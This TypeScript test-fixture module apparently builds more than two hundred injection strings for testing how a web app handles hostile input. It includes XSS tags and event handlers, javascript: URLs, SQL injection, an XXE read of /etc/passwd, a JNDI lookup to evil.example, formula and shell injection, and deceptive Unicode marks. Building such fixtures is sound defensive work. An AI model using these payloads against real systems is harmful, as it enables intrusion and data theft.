// Words that attack: scripts in every disguise, broken-out JSON and HTML, templates, invisible marks.

/** Sets `window.__pwned` when it runs anywhere. */
const run = 'window.__pwned=1';
const events = [
	'onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'ontoggle', 'onbegin', 'onend', 'onrepeat', 'onanimationstart',
	'onanimationend', 'ontransitionend', 'onpointerenter', 'onpointerover', 'onwheel', 'onscroll', 'oncopy', 'oncut', 'onpaste',
	'oninput', 'onchange', 'onsubmit', 'onpageshow', 'onhashchange', 'onmessage', 'onresize', 'onunload', 'onbeforeunload',
	'oncontentvisibilityautostatechange', 'onsecuritypolicyviolation', 'onslotchange', 'onfullscreenchange', 'onafterscriptexecute'
];
const elements = [
	'img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'select autofocus', 'textarea autofocus',
	'iframe', 'object data=x', 'embed src=x', 'marquee', 'math', 'link rel=stylesheet href=x', 'style', 'form', 'button', 'a href=#', 'dialog open'
];
const urls = [
	'javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:',
	'&#x6A;avascript:', 'javascript://%0a', 'vbscript:', 'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD4=', 'feed:javascript:',
	'view-source:javascript:', '//evil.example/', 'https:evil.example', '\\\\evil.example\\', 'blob:null/'
];
const scripts = [
	`<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script\n>${run}</script\n>`, `<script/x>${run}</script>`, `<scr<script>ipt>${run}</script>`,
	`<script src=//evil.example/x.js></script>`, `<script src=data:text/javascript,${run}></script>`, `<script type=module>${run}</script>`,
	`<script nonce>${run}</script>`, `<<script>${run}//<</script>`, `</script><script>${run}</script>`, `</title><script>${run}</script>`,
	`</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `</noscript><script>${run}</script>`, `</template><script>${run}</script>`,
	`--><script>${run}</script>`, `<!--<script>${run}</script>`, `]]><script>${run}</script>`, `<![CDATA[<script>${run}</script>]]>`,
	`<svg><script>${run}</script></svg>`, `<svg><script href=data:,${run} />`, `<svg><a xlink:href=javascript:${run}><text y=1em>x</text></a></svg>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributeName=x>`, `<svg><foreignObject><img src=x onerror=${run}>`,
	`<svg><use href=data:image/svg+xml,x#x>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
	`<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<meta http-equiv=refresh content=0;//evil.example>`,
	`<iframe srcdoc="<script>parent.${run}</script>">`, `<iframe src=javascript:parent.${run}>`, `<form action=javascript:${run}><button>x</button></form>`,
	`<isindex action=javascript:${run} type=image>`, `<object data=javascript:${run}>`, `<embed src=javascript:${run}>`, `<link rel=import href=//evil.example>`,
	`<x onclick=${run}>x</x>`, `<img src=x:x onerror="${run}"`, `<img """><script>${run}</script>">`, `<img src='x' onerror=\u0060${run}\u0060>`,
	`<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`, `<style>@import '//evil.example/x.css';</style>`, `<div style="background:url(//evil.example)">`,
	`<portal src=//evil.example>`, `<template shadowrootmode=open><script>${run}</script></template>`, `<p id=__sveltekit_dev><img name=body>`
];
const breakouts = [
	`"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `" onmouseover="${run}" x="`, `' onfocus='${run}' autofocus x='`, '`;window.__pwned=1;`',
	`";${run};//`, `';${run};//`, `\\";${run};//`, `\\u0022;${run};//`, `"}</script><script>${run}</script>`, `","@type":"Hacked","x":"`, `"}],"data":[{"x":"`,
	'\\', '\\\\', '\\"', '"', "'", '`', '&', '&amp;', '&lt;script&gt;', '&#60;script&#62;', '%3Cscript%3E', '\\u003cscript\\u003e', '\\x3cscript\\x3e',
	'<!--', '-->', '<', '>', '<>', '</', '<?xml version="1.0"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '<![endif]-->'
];
const templates = [
	'{{7*7}}', '{{constructor.constructor("window.__pwned=1")()}}', '${7*7}', '${window.__pwned=1}', '#{7*7}', '<%= 7*7 %>', '{%raw%}', '{@html "<b>x</b>"}',
	'{#if true}x{/if}', '[[${7*7}]]', '*{7*7}', '@(7*7)', '{title}', '{count}', '%sveltekit.body%', '%sveltekit.nonce%', '%lang%', '$&', '$1', '$`', "$'", '%s %d %n', '{0}',
	'__proto__', 'constructor', 'toString', '[object Object]', 'null', 'undefined', 'NaN', '-0', 'true', '1e309', "'; drop table listing; --", "' or '1'='1",
	'; select pg_sleep(9)', '$$; select 1; $$', '../../../etc/passwd', '..%2f..%2f', 'file:///etc/passwd', '${jndi:ldap://evil.example/x}', '=cmd|calc!A1', '@SUM(1+1)', '| ls', '$(reboot)'
];
const marks = [
	'\u202Egnp.exe', '\u202Dabc', '\u2066abc\u2069', '\u2067abc', '\u200Fabc', '\u061Cabc', 'a\u200Bb\u200Cc\u200Dd', '\uFEFFabc', 'abc\u00AD\u2060def',
	'Z\u0351\u036B\u0343\u036A\u0302a\u0346\u0346l\u0301g\u0308o\u0489', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}', '\u{E0041}\u{E0042}', '\uFFFD\uFFFE', '\u2028\u2029 line', '\u0085abc', '\u0001\u0002\u001B[31mred',
	'ﷺ'.repeat(5), '👾'.repeat(20), 'ỏ'.repeat(20), '﷽', 'مرحبا بالعالم', 'שלום', 'İıſK', 'ⅷⅸ①②', '＜script＞', '‹script›', '＂onload＝', 'W'.repeat(80), `${'a'.repeat(40)} ${'b'.repeat(39)}`
];
const links = [
	`[x](javascript:${run})`, `![x](x"onerror="${run})`, '[x](//evil.example)', `<javascript:${run}>`, `[x]: javascript:${run}`, '**x** __y__ `z`', '# x', '> x', '| a | b |',
	'https://evil.example/', 'http://user:pass@evil.example', 'mailto:x@evil.example?bcc=y', 'tel:112', 'www.evil.example', 'data:image/svg+xml,<svg onload=alert(1)>'
];

/** Over two hundred different attacks, each at least three characters and with a number of its own. */
export const attacks: string[] = [
	...new Set([
		...scripts,
		...breakouts,
		...events.map((event, at) => `<${elements[at % elements.length]} ${event}=${run}>`),
		...elements.map((element, at) => `"><${element} ${events[(at * 7) % events.length]}="${run}">`),
		...urls.flatMap((url) => [`${url}${run}`, `<a href="${url}${run}">x</a>`]),
		...templates,
		...marks,
		...links
	])
].map((attack, at) => `${at} ${attack}`);

/** Cuts to so many whole characters, as the database counts them. */
export const cut = (text: string, most: number): string => Array.from(text).slice(0, most).join('').trim();

/** All attacks in as few texts as fit, each at most so long. */
export function packed(most: number): string[] {
	const texts: string[] = [];
	for (const attack of attacks) {
		const last = texts.at(-1);
		if (last !== undefined && last.length + attack.length < most) texts[texts.length - 1] = `${last}\n${attack}`;
		else texts.push(attack);
	}
	return texts;
}
